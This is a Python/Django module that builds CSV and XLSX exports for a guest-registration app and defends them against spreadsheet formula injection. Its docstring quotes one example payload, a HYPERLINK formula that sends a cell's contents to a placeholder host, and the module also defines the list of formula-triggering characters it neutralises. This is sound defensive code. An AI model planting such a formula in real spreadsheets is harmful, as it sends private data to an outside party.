"""The one way the app writes a cell of an export: CSV (streamed or to a file) and XLSX.

A guest types their name at the kiosk or on /daftar/; a spreadsheet that opens the export runs any
cell that starts with = + - @ (or a tab or carriage return before one) as a formula, so
`=HYPERLINK("http://x.example/?d="&A1,"klik")` would send the sheet's data away. Every text cell of
every export goes through `safe_cell`, which neutralises such text the OWASP way (a leading
apostrophe); CSV quotes every text cell, so a semicolon inside one (the list separator of an
Indonesian Excel) never starts a new cell; XLSX writes text as strings, never as formulas.
Numbers, dates and empty cells are written as they are.
"""

import csv
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import date, datetime, time
from decimal import Decimal
from io import BytesIO

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # spreadsheet programs then read a CSV as UTF-8
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOLD = Font(bold=True)
PLAIN_VALUES = (bool, int, float, Decimal, date, datetime, time)


def safe_cell(value):
    """The value as an export writes it: text a spreadsheet would run as a formula becomes plain text."""
    if value is None or isinstance(value, PLAIN_VALUES):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]


# --- CSV -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class CsvDialect:
    """How a CSV writes its list separator, decimals, dates and times.

    An Indonesian Excel (Windows' regional setting "Indonesian") splits a CSV on ";" and reads "82,4"
    as a number, dates as dd/mm/yyyy and times as hh.mm: that is every export's default. "CSV standar"
    (`?csv=standar`) keeps the comma, the decimal point and ISO dates for other tools.
    """

    name: str
    delimiter: str
    decimal: str
    date_format: str
    time_format: str

    def text(self, value):
        """A plain value (number, date, time) as this dialect writes it; text is left as it is."""
        if isinstance(value, bool) or value is None or isinstance(value, int | str):
            return value
        if isinstance(value, float | Decimal):
            return str(value).replace(".", self.decimal)
        if isinstance(value, datetime):
            local = timezone.localtime(value) if timezone.is_aware(value) else value
            return local.strftime(f"{self.date_format} {self.time_format}")
        if isinstance(value, date):
            return value.strftime(self.date_format)
        if isinstance(value, time):
            return value.strftime(self.time_format)
        return value


INDONESIAN = CsvDialect("excel-id", ";", ",", "%d/%m/%Y", "%H.%M")
STANDARD = CsvDialect("standar", ",", ".", "%Y-%m-%d", "%H:%M:%S")
STANDARD_PARAMETER = "csv"  # ?csv=standar


def dialect_of(request) -> CsvDialect:
    """The dialect a download asks for: Indonesian Excel unless `?csv=standar`."""
    return STANDARD if request.GET.get(STANDARD_PARAMETER) == STANDARD.name else INDONESIAN


def dialect_row(values: Iterable, dialect: CsvDialect) -> list:
    return [dialect.text(value) for value in safe_row(values)]


class _Echo:
    """A file-like object whose write() hands the line back, for csv.writer in a streaming response."""

    def write(self, value):
        return value


def _writer(file, dialect: CsvDialect):
    # Every text cell quoted (whole numbers stay bare): a ";" inside one never splits it, whatever the
    # spreadsheet's list separator.
    return csv.writer(file, delimiter=dialect.delimiter, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")


def csv_lines(rows: Iterable[Iterable], dialect: CsvDialect = INDONESIAN) -> Iterator[str]:
    """Each row as one CSV line, after a byte-order mark; rows may be a generator (a year of steps)."""
    writer = _writer(_Echo(), dialect)
    yield BOM
    for row in rows:
        yield writer.writerow(dialect_row(row, dialect))


def csv_response(rows: Iterable[Iterable], filename: str, dialect: CsvDialect = INDONESIAN) -> StreamingHttpResponse:
    """The rows as a CSV download, streamed so that a large export never sits in memory."""
    response = StreamingHttpResponse(csv_lines(rows, dialect), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def write_csv(file, rows: Iterable[Iterable], dialect: CsvDialect = STANDARD) -> None:
    """The rows as CSV into an open text file (a management command's stdout), without a BOM."""
    writer = _writer(file, dialect)
    for row in rows:
        writer.writerow(dialect_row(row, dialect))


# --- XLSX ------------------------------------------------------------------------------------------


def as_text(cell) -> None:
    """Keep text text: openpyxl stores a string that starts with "=" as a live formula otherwise."""
    if isinstance(cell.value, str):
        cell.data_type = "s"


def xlsx_cell(sheet, value, *, bold: bool = False) -> WriteOnlyCell:
    """One cell for a write-only sheet (sheet.append): neutralised, text as a string."""
    cell = WriteOnlyCell(sheet, value=safe_cell(value))
    as_text(cell)
    if bold:
        cell.font = BOLD
    return cell


def xlsx_row(sheet, values: Iterable, *, bold: bool = False) -> list[WriteOnlyCell]:
    return [xlsx_cell(sheet, value, bold=bold) for value in values]


def append_row(sheet, values: Iterable, *, bold: bool = False) -> int:
    """Append one row to an ordinary sheet, every cell neutralised and text kept as text; its row number."""
    sheet.append(safe_row(values))
    row = sheet.max_row
    for cell in sheet[row]:
        as_text(cell)
        if bold:
            cell.font = BOLD
    return row


def xlsx_bytes(book: Workbook) -> bytes:
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --- XLSX sheets an inspector prints ---------------------------------------------------------------

PERCENT_FORMAT, DATE_FORMAT, DATETIME_FORMAT = "0.0%", "dd/mm/yyyy", "dd/mm/yyyy hh:mm"
MIN_WIDTH, MAX_WIDTH = 6, 60


def is_percent(header: str) -> bool:
    """A column of shares in percent: its header says "(%)"."""
    return "(%)" in header


def typed_value(value, *, percent: bool = False):
    """What a typed XLSX cell holds: a share in percent as a fraction (82.4 -> 0.824, shown 82.4%),
    an aware moment in WIB without its zone (Excel has none), text neutralised."""
    if percent and isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return float(value) / 100
    if isinstance(value, datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return safe_cell(value)


def table_sheet(book: Workbook, title: str, header: list[str], rows: Iterable[Iterable], *,
                heading: list[str]):
    """One sheet: the heading lines (office, title, period, printed at), a bold header row that stays
    on screen (frozen) with an autofilter, typed cells (numbers, dates, shares with a % format),
    widths from the content, A4 landscape fitted to the page's width."""
    sheet = book.create_sheet(title[:31])
    for line in heading:
        append_row(sheet, [line], bold=line == heading[0])
    sheet.append([])
    header_row = append_row(sheet, header, bold=True)
    percents = [is_percent(str(name)) for name in header]
    widths = [len(str(name)) for name in header]
    for values in rows:
        values = list(values)
        sheet.append([typed_value(v, percent=percents[i] if i < len(percents) else False)
                      for i, v in enumerate(values)])
        for index, cell in enumerate(sheet[sheet.max_row]):
            _format(cell, percents[index] if index < len(percents) else False)
            if index < len(widths):
                widths[index] = max(widths[index], len(_shown(values[index])))
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, MIN_WIDTH), MAX_WIDTH)
    for cell in sheet[header_row]:
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
    sheet.auto_filter.ref = f"A{header_row}:{get_column_letter(len(header))}{max(sheet.max_row, header_row)}"
    sheet.print_title_rows = f"{header_row}:{header_row}"
    fit_to_a4_landscape(sheet)
    return sheet


def _format(cell, percent: bool) -> None:
    as_text(cell)
    if percent and isinstance(cell.value, float):
        cell.number_format = PERCENT_FORMAT
    elif isinstance(cell.value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(cell.value, date):
        cell.number_format = DATE_FORMAT
    elif isinstance(cell.value, str) and len(cell.value) > MAX_WIDTH:
        cell.alignment = Alignment(wrap_text=True, vertical="top")


def _shown(value) -> str:
    if value is None:
        return ""
    if isinstance(value, date):
        return "00/00/0000 00:00" if isinstance(value, datetime) else "00/00/0000"
    return str(value)


def fit_to_a4_landscape(sheet) -> None:
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.orientation = sheet.ORIENTATION_LANDSCAPE
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True


def signature_rows(sheet, lines: list[str], *, column: int = 2) -> None:
    """A signature block under a sheet's table: its lines in one column, room left to sign."""
    sheet.append([])
    sheet.append([])
    for line in lines:
        row = [None] * (column - 1) + [safe_cell(line)]
        sheet.append(row)
        as_text(sheet.cell(row=sheet.max_row, column=column))
